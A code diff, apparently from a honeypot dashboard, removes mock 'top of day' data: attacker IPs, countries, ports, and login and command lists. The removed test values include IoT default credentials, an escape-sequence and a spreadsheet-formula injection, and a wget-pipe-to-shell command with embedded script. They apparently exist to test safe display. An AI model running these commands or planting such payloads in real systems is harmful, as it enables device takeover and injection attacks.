@@ -185,15 +185,6 @@ const QList<SessionRow>& allRows() {
     return kRows;
 }
 
-TopEntry entry(const char* key, quint64 count, quint64 previous) {
-    return {QByteArray(key), count, previous, {}, {}};
-}
-
-TopEntry login(const char* username, const char* secret, quint64 count, quint64 previous) {
-    return {QByteArray(username) + ':' + secret, count, previous, QString::fromLatin1(username),
-            QString::fromLatin1(secret)};
-}
-
 }  // namespace
 
 Series dayOfSessions(const Scope& scope) {
@@ -226,74 +217,6 @@ Totals totalsOfDayBefore(const Scope& scope) {
             .bytesOut = now.bytesOut * 9 / 10,
             .probes = now.probes,
             .openSessions = 9};
-}
-
-QList<TopEntry> topOfDay(TopField field, int limit) {
-    QList<TopEntry> entries;
-    switch (field) {
-        case TopField::Source:
-            entries = {entry("198.51.100.23", 24'188, 7'752), entry("203.0.113.77", 17'302, 16'637),
-                       entry("192.0.2.144", 11'870, 13'488),  entry("198.51.100.9", 9'415, 7'187),
-                       entry("203.0.113.201", 6'022, 0),      entry("2001:db8:77::1f", 4'871, 4'610),
-                       entry("192.0.2.63", 3'990, 4'205),     entry("198.51.100.122", 3'214, 2'988)};
-            break;
-        case TopField::Credential:
-            entries = {login("root", "xc3511", 8'120, 6'881),   login("admin", "admin", 7'344, 7'271),
-                       login("root", "", 5'902, 6'147),         login("root", "vizxv", 5'511, 4'517),
-                       login("user", "user", 3'108, 3'260),     login("support", "\\x1b]0;owned\\x07", 2'040, 0),
-                       login("ubnt", "ubnt", 1'877, 1'901),     login("<b>root</b>", "=cmd|'/c calc'!A1", 906, 12),
-                       login("postmaster", "123456", 744, 690), login("anonymous", "IEUser@", 512, 498)};
-            break;
-        case TopField::Protocol:
-            for (const Protocol& protocol : kProtocols) {
-                entries.append({protocol.name.toUtf8(),
-                                static_cast<quint64>(protocol.perBucket * 230),
-                                static_cast<quint64>(protocol.perBucket * 210),
-                                {},
-                                {}});
-            }
-            break;
-        case TopField::Port:
-            entries = {entry("23", 79'310, 70'122), entry("80", 44'017, 45'200), entry("25", 27'113, 20'019),
-                       entry("21", 14'220, 14'101), entry("110", 9'604, 9'912),  entry("6379", 5'021, 3'116),
-                       entry("79", 2'790, 2'655),   entry("2323", 2'011, 1'420)};
-            break;
-        case TopField::Sensor:
-            for (const QString& name : sensorsOfDay()) {
-                const quint64 count = 31'000 - 2'740 * static_cast<quint64>(entries.size());
-                entries.append({name.toUtf8(), count, count * 93 / 100, {}, {}});
-            }
-            break;
-        case TopField::Country:
-            entries = {entry("CN", 51'904, 48'060), entry("US", 39'077, 39'874), entry("NL", 22'012, 13'422),
-                       entry("RU", 17'743, 17'227), entry("BR", 12'508, 12'001), entry("IN", 9'990, 9'210),
-                       entry("VN", 8'114, 6'870),   entry("DE", 6'402, 6'630),   entry("ID", 5'114, 4'870),
-                       entry("GB", 4'402, 4'230),   entry("IR", 3'877, 3'950),   entry("KR", 3'204, 2'877),
-                       entry("FR", 2'940, 3'011),   entry("TR", 2'611, 2'330),   entry("UA", 2'208, 2'214),
-                       entry("AR", 1'970, 1'844),   entry("SG", 1'702, 1'690),   entry("MX", 1'490, 1'377),
-                       entry("TH", 1'204, 1'118),   entry("EG", 960, 902),       entry("PL", 814, 799),
-                       entry("CA", 702, 733),       entry("JP", 655, 640),       entry("CO", 514, 420),
-                       entry("ZA", 411, 377),       entry("NG", 305, 288),       entry("ES", 270, 266),
-                       entry("RO", 201, 190),       entry("PK", 160, 144),       entry("AU", 120, 133),
-                       entry("KE", 64, 51),         entry("CL", 33, 40),         entry("SA", 12, 9)};
-            break;
-        case TopField::Command:
-            entries = {entry("enable", 31'220, 29'004),
-                       entry("system", 30'871, 28'777),
-                       entry("shell", 30'654, 28'590),
-                       entry("/bin/busybox ECCHI", 21'007, 16'340),
-                       entry("cat /proc/mounts; /bin/busybox ECCHI", 20'113, 15'921),
-                       entry("wget http://203.0.113.9/<script>alert(1)</script>.sh -O- | sh", 4'330, 1'200),
-                       entry("uname -a", 3'902, 3'877)};
-            break;
-        case TopField::Artifact:
-            for (const char letter : {'a', 'b', 'c', 'd', 'e'}) {
-                const auto count = static_cast<quint64>(1'300 - 210 * (letter - 'a'));
-                entries.append({QByteArray(31, letter) + '\x1b', count, count / 2, {}, {}});
-            }
-            break;
-    }
-    return entries.first(std::min<qsizetype>(limit, entries.size()));
 }
 
 Activity activityOfWeeks() {
